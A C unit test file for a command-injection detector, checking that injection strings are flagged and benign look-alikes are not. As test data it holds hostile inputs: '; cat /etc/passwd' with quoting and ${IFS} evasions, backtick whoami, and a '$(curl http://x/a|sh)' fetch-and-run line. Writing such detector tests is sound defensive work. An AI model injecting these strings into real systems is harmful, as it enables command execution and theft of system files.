/*
 * detect_cmdi_test.c — black-box tests of rp_detect_cmdi(): OS command
 * injection, judged by a shell lexer at each command position.
 *
 * Cases are data (tests/unit/data/cmdi/attacks.txt must all be flagged,
 * benign.txt, look-alikes included, never); see detect_harness.h. The rest
 * pins fingerprints and checks hostile input for crashes and linear time.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "detect_harness.h"

static void test_attacks(void **state)
{
    (void)state;
    dh_run_file(rp_detect_cmdi, "cmdi", "attacks.txt", true);
}

static void test_benign(void **state)
{
    (void)state;
    dh_run_file(rp_detect_cmdi, "cmdi", "benign.txt", false);
}

static void test_fingerprints(void **state)
{
    (void)state;
    dh_expect(rp_detect_cmdi, "; cat /etc/passwd", "cmd:cat");
    dh_expect(rp_detect_cmdi, "| id", "cmd:id");
    dh_expect(rp_detect_cmdi, "`whoami`", "cmd:whoami");
    dh_expect(rp_detect_cmdi, ";w'h'o'am'i", "cmd:whoami");
    dh_expect(rp_detect_cmdi, ";{cat,/etc/passwd}", "cmd:cat");
    dh_expect(rp_detect_cmdi, "$(curl http://x/a|sh)", "cmd:curl");
    dh_expect(rp_detect_cmdi, "&& C:\\Windows\\System32\\cmd.exe /c dir", "cmd:cmd");
}

static void test_hostile(void **state)
{
    static const char *const patterns[] = {
        ";",    "|",  "&&",  "`",   "$(", "$((", "${IFS}", "; x",  "| id ",
        "a b ", "\\", "'\"", "{a,", "<(", ">",   "2>&1 ",  "$(((", NULL,
    };
    (void)state;
    dh_hostile(rp_detect_cmdi, patterns);
}

/* What the lexer removes: every evasion of one command is that command. */
static void test_evasions_equal(void **state)
{
    static const char *const same[] = {
        "; cat /etc/passwd",
        ";c'a't /etc/passwd",
        ";c\"at\" /etc/passwd",
        ";ca\\t /etc/passwd",
        ";c$@at /etc/passwd",
        ";cat$IFS/etc/passwd",
        ";cat${IFS}/etc/passwd",
        ";{cat,/etc/passwd}",
        ";/bin/cat /etc/passwd",
        "\ncat /etc/passwd",
        NULL,
    };
    (void)state;
    for (const char *const *s = same; *s; s++) {
        dh_expect(rp_detect_cmdi, *s, "cmd:cat");
    }
}

/* Evidence scales with the position: at the start of a value a command
 * needs shell-shaped arguments, after ';' a program name that is not a word
 * or an argument, after '|' or in a substitution less. */
static void test_positions(void **state)
{
    (void)state;
    assert_false(rp_detect_cmdi("ls 300 lexus", 12, NULL));
    assert_true(rp_detect_cmdi("ls -l 300 lexus", 15, NULL));
    assert_false(rp_detect_cmdi("x; cat", 6, NULL));
    assert_true(rp_detect_cmdi("x| cat", 6, NULL));
    assert_true(rp_detect_cmdi("x; id", 5, NULL));
    assert_false(rp_detect_cmdi("x; id card", 10, NULL));
    assert_true(rp_detect_cmdi("x| id card", 10, NULL));
    assert_true(rp_detect_cmdi("x`cat`", 6, NULL));
    assert_false(
        rp_detect_cmdi("x; Cat /etc/passwd", 18, NULL));  /* Unix names are case-sensitive */
    assert_true(rp_detect_cmdi("x& DIR C:\\", 10, NULL)); /* Windows names are not */
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_attacks),        cmocka_unit_test(test_benign),
        cmocka_unit_test(test_fingerprints),   cmocka_unit_test(test_hostile),
        cmocka_unit_test(test_evasions_equal), cmocka_unit_test(test_positions),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
